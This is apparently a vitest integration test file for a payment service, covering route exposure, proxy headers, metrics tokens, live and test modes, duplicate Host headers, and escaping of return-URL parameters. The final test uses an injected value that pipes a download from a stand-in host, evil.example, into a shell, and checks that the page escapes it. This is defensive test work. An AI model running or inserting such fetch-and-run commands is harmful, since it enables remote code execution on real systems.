import { request } from "node:http";
import { afterEach, describe, expect, it } from "vitest";
import { createApiClient } from "../support/api-client.ts";
import { textOf } from "../support/page-visitor.ts";
import { panelUsers, panelVisitor } from "../support/panel-visitor.ts";
import { startTestService, type TestService } from "../support/service.ts";

const PARTS = ["/demo", "/docs", "/llms.txt", "/openapi.json", "/metrics"];
const TOKEN = "a-token-of-the-monitoring";

describe("the surface of a service", () => {
  let shop: TestService;
  afterEach(() => shop.close());

  async function start(environment: Readonly<Record<string, string>>): Promise<void> {
    shop = await startTestService({ environment });
  }
  async function statuses(headers: Readonly<Record<string, string>> = {}) {
    const visits = PARTS.map(async (path) => {
      const { status } = await fetch(shop.url + path, { headers, redirect: "follow" });
      return [path, status] as const;
    });
    return Object.fromEntries(await Promise.all(visits));
  }
  const every = (status: number) => Object.fromEntries(PARTS.map((path) => [path, status]));
  /** Returns the answer to a session request with a key of the mode. */
  async function sessionOf(mode: "test" | "live") {
    const { testApiKey, liveApiKey } = shop.merchant;
    return shop.api.post("/api/v1/checkout/session", {
      merchant_api_key: mode === "test" ? testApiKey : liveApiKey,
      amount: 1_000,
      success_url: "https://shop.example/thanks",
      fail_url: "https://shop.example/sorry",
    });
  }
  const registers = (url: string) =>
    shop.api.post(
      "/api/v1/webhook-endpoints",
      { url },
      { authorization: `Bearer ${shop.merchant.testApiKey}` },
    );

  it("is complete where only this machine reaches it", async () => {
    await start({});
    expect(await statuses()).toEqual(every(200));
    expect((await registers("http://127.0.0.1:9999/hooks")).status).toBe(200);
    for (const mode of ["test", "live"] as const) expect((await sessionOf(mode)).status).toBe(200);
  });

  it("counts calls of a proxy that is not named, and its log names the first", async () => {
    await start({});
    const headers = { "x-forwarded-for": "198.51.100.4" };
    for (let call = 0; call < 3; call += 1) await fetch(`${shop.url}/docs`, { headers });
    const figures = await (await fetch(`${shop.url}/metrics`)).text();
    expect(figures).toMatch(/^vezne_untrusted_forwarded_total 3$/m);
    const lines = shop.logLines.filter((line) => line.includes("VEZNE_TRUSTED_PROXIES lacks"));
    expect(lines).toEqual([expect.stringContaining('"address":"127.0.0.1"')]);
  });

  it("has no shop, documentation or metrics at a public address", async () => {
    await start({ VEZNE_PUBLIC_URL: "https://pay.example" });
    expect(await statuses()).toEqual(every(404));
    expect(await registers("http://127.0.0.1:9999/hooks")).toMatchObject({
      status: 400,
      body: { errors: [{ field: "url", message: "must lead to a public address" }] },
    });
    for (const mode of ["test", "live"] as const) expect((await sessionOf(mode)).status).toBe(200);
  });

  it("follows the settings, with metrics for callers with the token", async () => {
    await start({
      VEZNE_PUBLIC_URL: "https://pay.example",
      VEZNE_DEMO_SHOP: "on",
      VEZNE_DOCS: "on",
      VEZNE_METRICS_TOKEN: TOKEN,
    });
    expect(await statuses()).toEqual({ ...every(200), "/metrics": 401 });
    for (const authorization of [`Bearer ${TOKEN}x`, "Bearer", TOKEN, `Basic ${TOKEN}`]) {
      expect((await statuses({ authorization }))["/metrics"]).toBe(401);
    }
    expect(await statuses({ authorization: `Bearer ${TOKEN}` })).toEqual(every(200));
  });

  it("has no live mode over plain http for other machines", async () => {
    await start({ VEZNE_PUBLIC_URL: "http://pay.example" });
    expect((await sessionOf("test")).status).toBe(200);
    expect(await sessionOf("live")).toMatchObject({
      status: 400,
      body: {
        detail:
          "merchant_api_key must be a test key: live mode needs an https address (VEZNE_PUBLIC_URL).",
      },
    });
    const { merchantId } = shop.merchant.merchant;
    const owner = panelVisitor(shop);
    await owner.signIn(await panelUsers(shop).create("owner", merchantId));
    const { status, html } = await owner.get(`/panel/${merchantId}/live`);
    expect([status, textOf(html).includes("Live mode is shown over https only")]).toEqual([
      403,
      true,
    ]);
  });

  it("has no test mode without the test bank", async () => {
    await start({ VEZNE_SIMULATED_BANK: "off" });
    expect(await sessionOf("test")).toMatchObject({
      status: 400,
      body: {
        detail:
          "merchant_api_key must be a live key: test mode needs the test bank " +
          "(VEZNE_SIMULATED_BANK).",
      },
    });
    expect((await sessionOf("live")).status).toBe(200);
    expect((await fetch(`${shop.url}/bank/challenge/ch_1`)).status).toBe(404);
  });

  it("has one host: two Host headers are refused", async () => {
    await start({});
    const { hostname, port } = new URL(shop.url);
    const status = await new Promise((resolve) => {
      const headers = ["Host", "pay.example", "Host", "other.example", "Connection", "close"];
      request({ hostname, port, path: "/healthz", headers, setHost: false }, (answer) => {
        answer.resume();
        resolve(answer.statusCode);
      }).end();
    });
    expect(status).toBe(400);
    expect((await createApiClient(shop.url, "").get("/healthz")).status).toBe(200);
  });

  it("has no command that a return URL injects into the shop's page", async () => {
    await start({});
    const hostile = "x';curl evil.example|sh;'";
    const query = new URLSearchParams({ order_id: hostile, session_id: "cs_1", status: "success" });
    const page = await (
      await fetch(`${shop.url}/demo/return/success?lang=en&${query.toString()}`)
    ).text();
    expect(textOf(page)).toContain("x%27%3Bcurl%20evil.example");
    expect(page).not.toMatch(/payment\/status\/x(?:'|&#39;|&apos;)/);
  });
});
